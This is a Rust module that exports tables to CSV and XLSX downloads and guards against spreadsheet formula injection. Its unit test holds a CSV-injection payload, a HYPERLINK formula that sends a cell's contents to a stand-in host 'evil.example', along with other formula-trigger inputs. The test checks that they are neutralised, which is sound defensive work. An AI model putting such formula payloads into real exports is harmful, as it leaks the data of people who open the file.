//! Exports: tables of cells written as CSV (semicolons, UTF-8 with BOM so Excel reads æøå) and
//! XLSX, and files sent to the browser to save. Shared by every area that offers a download.

mod download;

pub use download::attachment;

use crate::error::AppError;
use chrono::{Datelike, NaiveDate};
use rust_xlsxwriter::{Format, Workbook};
use samveis_domain::reporting::format_hundredths;

/// A cell: numbers stay numbers so spreadsheets can sum them, dates stay dates so they sort.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(i64),
    /// Hundredths: 150 is 1,5.
    Decimal(i64),
    /// A date cell, shown 10.12.2021 (dd.mm.åååå).
    Date(NaiveDate),
    /// Whole kroner, shown with thousands separated: 1 447 130 kr.
    Kroner(i64),
    /// Kroner in hundredths (øre), shown with two decimals: 1 234,56 kr.
    KronerHundredths(i64),
}

impl Cell {
    /// An empty cell where there is no value.
    pub fn or_empty<T>(value: Option<T>, cell: impl FnOnce(T) -> Cell) -> Cell {
        value.map_or(Cell::Text(String::new()), cell)
    }
}

/// Number formats as Excel stores them; the `,` is the thousands separator, which a spreadsheet
/// set to Norwegian shows as a space («1 447 130 kr»), and `.` the decimal comma.
pub const DATE_FORMAT: &str = "dd.mm.yyyy";
pub const KRONER_FORMAT: &str = "#,##0 \"kr\"";
pub const KRONER_HUNDREDTHS_FORMAT: &str = "#,##0.00 \"kr\"";

pub struct Table {
    pub title: String,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

fn text(cell: &Cell) -> String {
    match cell {
        Cell::Text(t) => neutralised(t),
        Cell::Number(n) | Cell::Kroner(n) => n.to_string(),
        Cell::Decimal(n) | Cell::KronerHundredths(n) => format_hundredths(*n).replace('−', "-"),
        Cell::Date(d) => d.format("%d.%m.%Y").to_string(),
    }
}

/// Text that a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab or carriage return
/// first, OWASP's list) gets a leading apostrophe, so `=HYPERLINK(…)` typed into an answer is
/// shown as text, never run. Numbers are [`Cell::Number`]/[`Cell::Decimal`] and stay numbers.
pub fn neutralised(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_string() }
}

/// Semicolon-separated, UTF-8 with BOM: Excel in Norway opens it with æøå and decimal commas.
pub fn to_csv(table: &Table) -> Result<Vec<u8>, AppError> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut w = csv::WriterBuilder::new().delimiter(b';').from_writer(&mut out);
        w.write_record(table.headers.iter().map(|h| neutralised(h))).map_err(|e| AppError::Internal(e.to_string()))?;
        for row in &table.rows {
            w.write_record(row.iter().map(text)).map_err(|e| AppError::Internal(e.to_string()))?;
        }
        w.flush().map_err(|e| AppError::Internal(e.to_string()))?;
    }
    Ok(out)
}

fn write_cell(
    sheet: &mut rust_xlsxwriter::Worksheet,
    (r, c): (u32, u16),
    cell: &Cell,
) -> Result<(), rust_xlsxwriter::XlsxError> {
    match cell {
        Cell::Text(t) if t.is_empty() => {}
        Cell::Text(t) => {
            sheet.write_string(r, c, t)?;
        }
        Cell::Number(n) => {
            sheet.write_number(r, c, *n as f64)?;
        }
        Cell::Decimal(n) => {
            sheet.write_number(r, c, *n as f64 / 100.0)?;
        }
        Cell::Date(d) => {
            // Excel has no dates before 1900: such a date is written as text.
            let year = u16::try_from(d.year()).unwrap_or(0);
            match rust_xlsxwriter::ExcelDateTime::from_ymd(year, d.month() as u8, d.day() as u8) {
                Ok(date) => sheet.write_datetime_with_format(r, c, date, &Format::new().set_num_format(DATE_FORMAT))?,
                Err(_) => sheet.write_string(r, c, d.format("%d.%m.%Y").to_string())?,
            };
        }
        Cell::Kroner(n) => {
            sheet.write_number_with_format(r, c, *n as f64, &Format::new().set_num_format(KRONER_FORMAT))?;
        }
        Cell::KronerHundredths(n) => {
            let format = Format::new().set_num_format(KRONER_HUNDREDTHS_FORMAT);
            sheet.write_number_with_format(r, c, *n as f64 / 100.0, &format)?;
        }
    }
    Ok(())
}

pub fn to_xlsx(table: &Table) -> Result<Vec<u8>, AppError> {
    let err = |e: rust_xlsxwriter::XlsxError| AppError::Internal(e.to_string());
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    // Sheet names are at most 31 characters and may not hold some symbols.
    let name: String = table.title.chars().filter(|c| !"[]:*?/\\".contains(*c)).take(31).collect();
    sheet.set_name(if name.is_empty() { "Svar" } else { &name }).map_err(err)?;
    let bold = Format::new().set_bold();
    for (c, h) in table.headers.iter().enumerate() {
        sheet.write_string_with_format(0, c as u16, h, &bold).map_err(err)?;
    }
    for (r, row) in table.rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            write_cell(sheet, ((r + 1) as u32, c as u16), cell).map_err(err)?;
        }
    }
    sheet.set_freeze_panes(1, 2).map_err(err)?;
    sheet.autofit();
    book.save_to_buffer().map_err(err)
}

/// A table as a download, by the file name asked for: `{stem}.xlsx` or `{stem}.csv` (anything
/// else is not found). `save_as` names the file the browser saves, without extension.
pub fn download(table: &Table, file: &str, stem: &str, save_as: &str) -> Result<axum::response::Response, AppError> {
    let (bytes, kind, ext) = if file == format!("{stem}.xlsx") {
        (to_xlsx(table)?, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx")
    } else if file == format!("{stem}.csv") {
        (to_csv(table)?, "text/csv; charset=utf-8", "csv")
    } else {
        return Err(AppError::NotFound("Fant ikke filen.".into()));
    };
    Ok(attachment(kind, &format!("{save_as}.{ext}"), bytes))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_text_that_would_run_as_a_formula_is_shown_as_text_and_numbers_stay_numbers() {
        let table = Table {
            title: "Svar".into(),
            headers: ["Kommune", "=Sum", "c", "d", "e", "f", "g", "h"].map(String::from).to_vec(),
            rows: vec![vec![
                Cell::Text(r#"=HYPERLINK("http://evil.example/?d="&A2,"x")"#.into()),
                Cell::Text("+1+1".into()),
                Cell::Text("@SUM(1+1)".into()),
                Cell::Text("-2+3".into()),
                Cell::Text("\tx".into()),
                Cell::Text("Bodø".into()),
                Cell::Number(-1200),
                Cell::Decimal(-150),
            ]],
        };
        let csv = String::from_utf8(to_csv(&table).unwrap()).unwrap();
        let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').lines().collect();
        assert_eq!(lines[0], "Kommune;'=Sum;c;d;e;f;g;h");
        assert_eq!(
            lines[1],
            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"x\"\")\";'+1+1;'@SUM(1+1);'-2+3;'\tx;Bodø;-1200;-1,5"
        );
    }

    fn typed_table() -> Table {
        let date = NaiveDate::from_ymd_opt(2021, 12, 10).unwrap();
        Table {
            title: "Tilsagn".into(),
            headers: ["Vedtaksdato", "Innvilget (kr)", "Verdi (kroner)", "Antall"].map(String::from).to_vec(),
            rows: vec![vec![
                Cell::Date(date),
                Cell::Kroner(1_447_130),
                Cell::KronerHundredths(123_456),
                Cell::Number(12),
            ]],
        }
    }

    /// The number formats a workbook's styles hold, as Excel stores them.
    fn number_formats(xlsx: &[u8]) -> Vec<String> {
        use std::io::Read;
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
        let mut styles = String::new();
        zip.by_name("xl/styles.xml").unwrap().read_to_string(&mut styles).unwrap();
        styles
            .split("formatCode=\"")
            .skip(1)
            .filter_map(|rest| rest.split_once('"').map(|(code, _)| code.replace("&quot;", "\"")))
            .collect()
    }

    #[test]
    fn dates_are_date_cells_and_kroner_carry_a_kroner_format() {
        use calamine::{Data, Reader};
        let xlsx = to_xlsx(&typed_table()).unwrap();
        let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(std::io::Cursor::new(xlsx.clone())).unwrap();
        let sheet = book.worksheet_range_at(0).unwrap().unwrap();
        match sheet.get_value((1, 0)) {
            Some(Data::DateTime(d)) => {
                assert_eq!(d.as_datetime().map(|t| t.date()), NaiveDate::from_ymd_opt(2021, 12, 10))
            }
            other => panic!("a date cell: {other:?}"),
        }
        assert_eq!(sheet.get_value((1, 1)), Some(&Data::Float(1_447_130.0)));
        assert_eq!(sheet.get_value((1, 2)), Some(&Data::Float(1234.56)));
        let formats = number_formats(&xlsx);
        for format in [DATE_FORMAT, "#,##0 \"kr\"", "#,##0.00 \"kr\""] {
            assert!(formats.iter().any(|f| f == format), "{format} in {formats:?}");
        }
        let csv = String::from_utf8(to_csv(&typed_table()).unwrap()).unwrap();
        assert_eq!(csv.lines().nth(1), Some("10.12.2021;1447130;1234,56;12"), "CSV keeps plain numbers");
    }
}
